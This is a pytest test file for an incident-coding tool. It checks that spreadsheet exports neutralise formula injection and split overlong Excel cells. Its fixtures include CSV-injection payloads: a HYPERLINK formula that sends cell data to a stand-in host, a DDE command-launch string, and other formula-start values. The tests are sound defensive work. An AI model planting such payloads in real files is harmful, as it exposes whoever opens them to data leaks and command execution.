"""Spreadsheet safety wherever a person opens a file (issue 11, point 8).

Formula-looking text coded in a record (``=HYPERLINK(...)``, ``+1``, ``-2+3``, ``@SUM``, tab- or
CR-prefixed cells) is neutralised in every file meant for people (the disagreement CSV of ``agree``, the
CSV of ``geocode``, the spreadsheet export) by the one rule of :mod:`incidentkit.formulas`; the ACLED and
UCDP layouts keep it exact, and the commands writing them say how many such cells there are. An XLSX
cell longer than Excel's 32,767 characters is never cut: the full text is on a companion sheet.
"""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pytest
from click.testing import CliRunner
from conftest import BASE_RECORD, dump_yaml

from incidentkit.cli import main
from incidentkit.export.acled import acled_schema
from incidentkit.export.spreadsheet import EXCEL_MAX_CELL, split_long_text
from incidentkit.export.ucdp import TEXT_COLUMNS, UCDP_COLUMNS
from incidentkit.formulas import DANGEROUS_PREFIXES, count_formula_cells, kept_exact_note, neutralise

REPO = Path(__file__).resolve().parents[1]

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Source: SOHR")'
HOSTILE = {
    "notes": HYPERLINK,
    "actor1": "+1 militia",
    "assoc_actor_1": ["-2+3", "@SUM(A1:A9)"],
    "location": "\t=cmd|' /C calc'!A0",
    "admin2": "\r=1+1",
}
LONG_NOTE = "=" + ("Witnesses said the fighting went on. " * 1082)[:39_999]   # 40,000 characters


def _record(incidents: list[dict[str, Any]], coder: str = "ab", source: str = "test-2022-01-21-report") -> dict:
    rec = copy.deepcopy(BASE_RECORD)
    rec["coder"] = coder
    rec["source"]["id"] = source
    base = rec["incidents"][0]
    rec["incidents"] = [dict(copy.deepcopy(base), **inc) for inc in incidents]
    return rec


def _write(folder: Path, rec: dict, name: str = "record.yaml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(dump_yaml(rec), encoding="utf-8")
    return path


def _hostile_project(tmp_path: Path) -> Path:
    """Two incidents: a two-day one holding every hostile value (two ACLED rows), and one whose notes
    begin with a tab."""
    coded = tmp_path / "coded"
    _write(coded, _record([
        dict(HOSTILE, id="test-2022-01-21-report-01", date_end="2022-01-21"),
        {"id": "test-2022-01-21-report-02", "notes": "\tSOHR: clashes continue", "location": "al-Hasakah"},
    ]))
    return coded


def _dangerous(value: str) -> bool:
    return value.startswith(DANGEROUS_PREFIXES)


def _csv_rows(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


def _note(stderr: str, name: str) -> str:
    lines = [line for line in stderr.splitlines() if f"cell(s) in {name} " in line]
    assert len(lines) == 1, stderr
    return lines[0]


# -- the rule ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_the_one_rule_neutralises_every_formula_start(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_count_is_of_text_cells_only() -> None:
    table = pa.table({"notes": ["=1", "fine", None, "-2+3"], "longitude": [-33.5, 1.0, None, -2.0],
                      "label": pa.array(["@x", "y", "z", "+1"]).dictionary_encode()})
    assert count_formula_cells(table) == 4
    assert kept_exact_note(0, "acled.csv", "ACLED") is None
    assert kept_exact_note(3, "acled.csv", "ACLED").startswith("note: 3 cell(s) in acled.csv begin with = + - @")


# -- ACLED and UCDP: exact text, counted -----------------------------------------------------------------------
def test_build_keeps_acled_and_ucdp_exact_and_counts_formula_cells(tmp_path: Path) -> None:
    coded, out = _hostile_project(tmp_path), tmp_path / "out"
    res = CliRunner().invoke(main, ["build", "--coded", str(coded), "--out", str(out), "--no-geocode"])
    assert res.exit_code == 0, res.output

    acled = _csv_rows(out / "acled.csv")
    assert len(acled) == 3                                  # the two-day incident is two ACLED events
    first = acled[0]
    assert first["notes"].startswith(HYPERLINK) and first["actor1"] == "+1 militia"
    assert first["assoc_actor_1"] == "-2+3; @SUM(A1:A9)" and first["location"] == HOSTILE["location"]
    assert first["admin2"] == HOSTILE["admin2"] and acled[2]["notes"].startswith("\tSOHR")
    # per event of the two-day incident: notes, actor1, assoc_actor_1, location, admin2; plus one tab note
    text_columns = [f.name for f in acled_schema(True) if pa.types.is_string(f.type)]
    counted = sum(_dangerous(r[c]) for r in acled for c in text_columns)
    assert counted == 11
    assert _note(res.stderr, "acled.csv") == (
        "note: 11 cell(s) in acled.csv begin with = + - @ or a tab/line break (kept exact for ACLED "
        "compatibility; use the xlsx export to open in a spreadsheet)")

    ucdp = _csv_rows(out / "ucdp_ged.csv")
    assert list(ucdp[0]) == list(UCDP_COLUMNS)
    expected = sum(_dangerous(r[c]) for r in ucdp for c in TEXT_COLUMNS)
    assert expected >= 2                                     # at least the location and admin2 text
    assert any(r["where_description"] == HOSTILE["location"] for r in ucdp)
    assert f"note: {expected} cell(s) in ucdp_ged.csv begin with" in _note(res.stderr, "ucdp_ged.csv")
    assert "UCDP GED compatibility" in _note(res.stderr, "ucdp_ged.csv")

    # --json: the summary on stdout stays JSON, the notes go to stderr
    again = CliRunner().invoke(main, ["build", "--coded", str(coded), "--out", str(out), "--no-geocode", "--json"])
    assert again.exit_code == 0 and json.loads(again.stdout)["incidents"] == 2
    assert "11 cell(s) in acled.csv" in again.stderr

    # the export commands say the same
    exp = CliRunner().invoke(main, ["export", "acled", "--dataset", str(out), "-o", str(tmp_path / "exports")])
    assert exp.exit_code == 0 and "note: 11 cell(s) in acled.csv" in exp.stderr
    assert (tmp_path / "exports" / "acled.csv").read_bytes() == (out / "acled.csv").read_bytes()
    exp = CliRunner().invoke(main, ["export", "ucdp", "--dataset", str(out), "-o", str(tmp_path / "exports")])
    assert exp.exit_code == 0 and f"note: {expected} cell(s) in ucdp_ged.csv" in exp.stderr


def test_no_note_without_formula_looking_cells(tmp_path: Path) -> None:
    coded, out = tmp_path / "coded", tmp_path / "out"
    _write(coded, _record([{}]))
    res = CliRunner().invoke(main, ["build", "--coded", str(coded), "--out", str(out), "--no-geocode"])
    assert res.exit_code == 0, res.output
    assert "cell(s) in" not in res.output
    exp = CliRunner().invoke(main, ["export", "acled", "--dataset", str(out), "-o", str(tmp_path / "e")])
    assert exp.exit_code == 0 and "cell(s) in" not in exp.output


# -- files for people: neutralised ------------------------------------------------------------------------------
def test_spreadsheet_export_of_the_hostile_record_is_neutralised(tmp_path: Path) -> None:
    coded, out = _hostile_project(tmp_path), tmp_path / "out"
    assert CliRunner().invoke(main, ["build", "--coded", str(coded), "--out", str(out), "--no-geocode"]).exit_code == 0
    csv_out, xlsx_out = tmp_path / "incidents.csv", tmp_path / "incidents.xlsx"
    for target in (csv_out, xlsx_out):
        res = CliRunner().invoke(main, ["export", "spreadsheet", "--dataset", str(out), "-o", str(target)])
        assert res.exit_code == 0, res.output
    rows = _csv_rows(csv_out, "utf-8-sig")
    assert rows[0]["notes"] == "'" + HYPERLINK and rows[0]["actor1"] == "'+1 militia"
    assert rows[0]["assoc_actor_1"] == "'-2+3; @SUM(A1:A9)" and rows[0]["location"] == "'" + HOSTILE["location"]
    assert rows[0]["admin2"] == "'" + HOSTILE["admin2"] and rows[1]["notes"] == "'\tSOHR: clashes continue"
    numeric = {"latitude", "longitude", "geo_score"}
    assert not any(_dangerous(v) for r in rows for k, v in r.items() if k not in numeric)
    wb = openpyxl.load_workbook(xlsx_out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert not any(isinstance(c.value, str) and _dangerous(c.value) for c in cells)


def test_geocode_csv_is_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # run where the other geocoding tests run (the repository, datasets/gazetteer): one cached index
    monkeypatch.chdir(REPO)
    src, out = tmp_path / "places.csv", tmp_path / "geocoded.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\r\n")       # CRLF: the writer quotes the cell holding a CR
        w.writerow(["id", "name", "country", "comment"])
        w.writerows([["1", "al-Hasakah", "SY", "+1"], ["2", HYPERLINK, "SY", "-2+3"],
                     ["3", "Aleppo", "SY", "\r=2"], ["4", "@SUM(A1)", "SY", "\t=1"]])
    res = CliRunner().invoke(main, ["geocode", str(src), "-o", str(out), "--no-progress"])
    assert res.exit_code == 0, res.output
    rows = _csv_rows(out)
    assert len(rows) == 4                                   # the CR inside a cell did not split a row
    assert [r["comment"] for r in rows] == ["'+1", "'-2+3", "'\r=2", "'\t=1"]
    assert rows[1]["name"] == "'" + HYPERLINK and rows[3]["name"] == "'@SUM(A1)"
    assert rows[1]["geocode_note"] and not _dangerous(rows[1]["geocode_note"])
    assert float(rows[0]["latitude"]) == pytest.approx(36.5, abs=0.1)      # numbers stay numbers
    assert not any(_dangerous(v) for r in rows for v in r.values())


def test_agree_disagreement_csv_is_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    ev = [{"field": "actor1", "quote": "=1+1 said the army"}]
    _write(tmp_path / "aa", _record([dict(HOSTILE, id="s1-aa-01", evidence=ev)], coder="aa", source="s1"))
    _write(tmp_path / "bb", _record([{"id": "s1-bb-01", "actor1": "-2+3 brigade", "actor2": "@SUM(A1)",
                                      "evidence": [{"field": "actor1", "quote": "\tquoted with a tab"}]}],
                                    coder="bb", source="s1"))
    review = tmp_path / "review.csv"
    res = CliRunner().invoke(main, ["agree", str(tmp_path / "aa"), str(tmp_path / "bb"), "--bootstrap", "0",
                                    "--no-geocode", "--disagreements", str(review), "--json"])
    assert res.exit_code == 0, res.output
    exact = {d["field"]: d for d in json.loads(res.stdout)["disagreements"]}
    assert exact["actor1"]["value_a"] == "+1 militia" and exact["actor1"]["evidence_a"] == "=1+1 said the army"
    rows = {r["field"]: r for r in _csv_rows(review)}
    assert rows["actor1"]["value_a"] == "'+1 militia" and rows["actor1"]["value_b"] == "'-2+3 brigade"
    assert rows["actor1"]["evidence_a"] == "'=1+1 said the army"
    assert rows["actor1"]["evidence_b"] == "'\tquoted with a tab"
    assert rows["actor2"]["value_b"] == "'@SUM(A1)"
    assert not any(_dangerous(v) for r in rows.values() for v in r.values())


# -- XLSX: a cell longer than Excel allows is never cut -----------------------------------------------------------
def test_a_40000_character_note_goes_whole_to_the_long_text_sheet(tmp_path: Path) -> None:
    assert len(LONG_NOTE) == 40_000
    coded, out = tmp_path / "coded", tmp_path / "out"
    _write(coded, _record([{"id": "test-2022-01-21-report-01", "notes": LONG_NOTE},
                           {"id": "test-2022-01-21-report-02"}]))
    assert CliRunner().invoke(main, ["build", "--coded", str(coded), "--out", str(out), "--no-geocode"]).exit_code == 0
    xlsx = tmp_path / "incidents.xlsx"
    res = CliRunner().invoke(main, ["export", "spreadsheet", "--dataset", str(out), "-o", str(xlsx)])
    assert res.exit_code == 0, res.output

    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["incidents", "long_text"]
    ws = wb["incidents"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("notes") + 1).value
    assert len(cell) <= EXCEL_MAX_CELL
    assert cell.startswith("[continued in sheet long_text, row 2] '=Witnesses said")
    assert ws.cell(row=3, column=header.index("notes") + 1).value == BASE_RECORD["incidents"][0]["notes"]

    long_rows = list(wb["long_text"].iter_rows(values_only=True))
    assert long_rows[0][:5] == ("incidents_row", "id", "column", "characters", "parts")
    row = long_rows[1]
    assert row[:5] == (2, "test-2022-01-21-report-01", "notes", len(LONG_NOTE) + 1, 2)
    parts = [p for p in row[5:] if p]
    assert all(len(p) <= EXCEL_MAX_CELL for p in parts)
    assert "".join(parts) == "'" + LONG_NOTE                  # the whole note, neutralised like every cell
    assert not any(c.data_type == "f" for s in wb for r in s.iter_rows() for c in r)


def test_split_long_text_counts_as_excel_does_and_avoids_formula_starts() -> None:
    wide = "𝄞" * 20_000                                      # beyond U+FFFF: two UTF-16 units each in Excel
    parts = split_long_text(wide)
    assert "".join(parts) == wide and all(len(p.encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL for p in parts)
    text = "x" * (EXCEL_MAX_CELL - 2) + "=-@x" + "y" * 10
    parts = split_long_text(text)
    assert "".join(parts) == text and not any(_dangerous(p) for p in parts[1:])
    assert split_long_text("short") == ["short"]
